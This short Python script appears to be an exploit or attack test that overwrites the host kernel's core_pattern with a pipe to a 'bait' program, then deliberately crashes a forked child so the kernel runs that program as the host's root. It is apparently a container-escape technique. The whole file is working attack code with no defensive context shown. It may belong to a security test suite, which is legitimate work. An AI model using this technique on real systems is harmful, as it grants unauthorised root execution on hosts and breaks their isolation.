"""Have the kernel run a program as the host's root for each crash, and crash."""

import os
import resource
import signal

from hostile import bait, put

put("/proc/sys/kernel/core_pattern", f"|{bait.program}", 0)
child = os.fork()
if not child:
    resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
    os.kill(os.getpid(), signal.SIGSEGV)
os.waitpid(child, 0)
